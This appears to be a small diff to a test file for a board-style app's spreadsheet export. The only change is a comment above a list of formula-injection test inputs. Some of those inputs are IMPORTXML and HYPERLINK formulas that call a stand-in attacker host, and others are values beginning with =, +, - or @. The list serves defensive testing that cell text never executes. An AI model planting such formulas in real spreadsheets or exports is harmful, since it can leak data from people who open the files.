@@ -15,7 +15,7 @@ MANAGERS = {"acme": [MANAGER], "globex": [MANAGER], "initech": [OTHER_MANAGER]}
 GRID_ROWS = 40
 BACKLOG, IN_WORK, CARD = "Backlog", "In work", "Card"
 
-# what can start a formula in a spreadsheet cell (design.md §6), as people actually type it
+# what can start a formula in a spreadsheet cell (docs/safety.md: text never executes), as people actually type it
 DANGEROUS = ['=IMPORTXML("http://evil.example/x","//a")', '=HYPERLINK("http://evil.example","click")',
              "+7 999 123-45-67", "-5", "@home", "=1+1", "+SUM(1,2)", "-A1", "@SUM(A1)"]
 
